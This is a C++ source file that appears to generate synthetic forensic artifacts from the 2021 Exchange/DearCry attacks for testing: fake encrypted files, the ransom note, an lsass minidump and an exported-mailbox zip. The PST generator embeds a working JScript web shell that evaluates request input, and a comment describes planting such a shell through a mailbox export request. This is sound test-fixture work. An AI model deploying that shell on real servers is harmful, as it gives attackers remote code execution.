// SPDX-License-Identifier: Apache-2.0
// Synthetic file formats.
#include "synthetic.hpp"

#include <fmt/format.h>
#include <zlib.h>

#include <algorithm>
#include <cstring>
#include <string_view>

#include "exchange-logs/rng.hpp"

namespace filetree {
namespace {

using exlogs::Rng;

constexpr std::uint64_t kDearCryHeader = 8 + 4 + 256 + 4 + 8;

void put_le(std::string& out, std::uint64_t v, int bytes) {
  for (int i = 0; i < bytes; ++i) out.push_back(static_cast<char>((v >> (8 * i)) & 0xFF));
}

// Appends `n` pseudo-random bytes, eight at a time.
void put_random(std::string& out, std::uint64_t n, Rng& rng) {
  const auto at = out.size();
  out.resize(at + n);
  char* p = out.data() + at;
  for (; n >= 8; n -= 8, p += 8) {
    const auto v = rng.next();
    std::memcpy(p, &v, 8);
  }
  const auto v = rng.next();
  std::memcpy(p, &v, n);
}

// "DEARCRY!", the length (256) and bytes of the RSA-encrypted AES key, a 32-bit field whose
// meaning the public analyses leave open (zero here), the original size, then the AES
// ciphertext: the original size rounded up to the block size.
std::string dearcry(const FileSpec& f, Rng& rng) {
  std::string out = "DEARCRY!";
  put_le(out, 256, 4);
  put_random(out, 256, rng);
  put_le(out, 0, 4);
  put_le(out, f.original, 8);
  put_random(out, dearcry_size(f.original) - kDearCryHeader, rng);
  return out;
}

// DearCry's note, as published in the March 2021 analyses, with a random victim hash.
std::string ransom_note(Rng& rng) {
  return fmt::format(
      "Your file has been encrypted!\r\nIf you want to decrypt, please contact us.\r\n"
      "konedieyp@airmail.cc and uenwonken@memail.com\r\nAnd please send me the following hash!\r\n"
      "{:016x}{:016x}\r\n",
      rng.next(), rng.next());
}

// A PST file ("!BDN", CRC, "SM", the Unicode format's version) with the web shell in a mail
// item, as left by New-MailboxExportRequest -FilePath \\server\c$\...\auth\x.aspx.
std::string pst_web_shell(const FileSpec& f, Rng& rng) {
  constexpr std::string_view kShell =
      "<script language=\"JScript\" runat=\"server\">eval(Request[\"k\"],\"unsafe\");</script>";
  std::string out = "!BDN";
  put_le(out, rng.next(), 4);
  out += "SM";
  put_le(out, 23, 2);
  put_le(out, 19, 2);
  const auto before = std::min<std::uint64_t>(512 + rng.below(8192), f.size / 2);
  put_random(out, before - std::min<std::uint64_t>(before, out.size()), rng);
  out += kShell;
  if (out.size() < f.size) put_random(out, f.size - out.size(), rng);
  out.resize(f.size);
  return out;
}

// MINIDUMP_HEADER ("MDMP", version 0xA793, 13 streams at offset 0x20, a March 2021 time stamp,
// MiniDumpWithFullMemory), then memory, in which lsass.exe's own path appears.
std::string minidump(const FileSpec& f, Rng& rng) {
  std::string out = "MDMP";
  put_le(out, 0xA793, 4);
  put_le(out, 13, 4);
  put_le(out, 0x20, 4);
  put_le(out, 0, 4);
  put_le(out, 1614816000, 4);
  put_le(out, 0x2, 8);
  put_random(out, f.size - out.size(), rng);
  constexpr std::string_view kModule = "C:\\Windows\\System32\\lsass.exe";
  for (std::size_t i = 0; i < kModule.size() && 0x100 + 2 * i + 1 < out.size(); ++i) {
    out[0x100 + 2 * i] = kModule[i];
    out[0x100 + 2 * i + 1] = '\0';
  }
  return out;
}

// A valid zip (two stored entries, as `7z a -tzip -mx0` makes) of exactly f.size bytes.
std::string zip(const FileSpec& f, Rng& rng) {
  constexpr std::string_view kNames[] = {"export/Administrator.pst", "oab/oab.lzx"};
  std::uint64_t overhead = 22;
  for (const auto name : kNames) overhead += 30 + 46 + 2 * name.size();
  const auto data = f.size - std::min(f.size, overhead);
  const std::uint64_t sizes[] = {data - data / 10, data / 10};
  constexpr std::uint32_t kDosTime = (3 << 11) | (3 << 5), kDosDate = ((2021 - 1980) << 9) | (3 << 5) | 3;
  std::string out, central;
  for (std::size_t i = 0; i < 2; ++i) {
    const auto offset = out.size();
    std::string body;
    put_random(body, sizes[i], rng);
    const auto crc =
        crc32(crc32(0, nullptr, 0), reinterpret_cast<const Bytef*>(body.data()), static_cast<uInt>(body.size()));
    auto header = [&](std::string& h, bool central_entry) {
      put_le(h, central_entry ? 0x02014b50 : 0x04034b50, 4);
      if (central_entry) put_le(h, 20, 2);  // made by
      put_le(h, 20, 2);                     // version needed
      put_le(h, 0, 2);                      // flags
      put_le(h, 0, 2);                      // stored
      put_le(h, kDosTime, 2);
      put_le(h, kDosDate, 2);
      put_le(h, crc, 4);
      put_le(h, body.size(), 4);
      put_le(h, body.size(), 4);
      put_le(h, kNames[i].size(), 2);
      put_le(h, 0, 2);  // extra
      if (central_entry) {
        put_le(h, 0, 2);  // comment
        put_le(h, 0, 2);  // disk
        put_le(h, 0, 2);  // internal attributes
        put_le(h, 0, 4);  // external attributes
        put_le(h, offset, 4);
      }
      h += kNames[i];
    };
    header(out, false);
    out += body;
    header(central, true);
  }
  const auto central_at = out.size();
  out += central;
  put_le(out, 0x06054b50, 4);
  put_le(out, 0, 4);  // disk numbers
  put_le(out, 2, 2);
  put_le(out, 2, 2);
  put_le(out, central.size(), 4);
  put_le(out, central_at, 4);
  put_le(out, 0, 2);
  return out;
}

}  // namespace

std::uint64_t dearcry_size(std::uint64_t original) { return kDearCryHeader + (original + 15) / 16 * 16; }

std::string synthesize(const FileSpec& file) {
  Rng rng(file.seed);
  switch (file.synthetic) {
    case Synthetic::kDearCry:
      return dearcry(file, rng);
    case Synthetic::kRansomNote:
      return ransom_note(rng);
    case Synthetic::kPstWebShell:
      return pst_web_shell(file, rng);
    case Synthetic::kMinidump:
      return minidump(file, rng);
    case Synthetic::kZip:
      return zip(file, rng);
    case Synthetic::kNone:
      break;
  }
  return {};
}

}  // namespace filetree
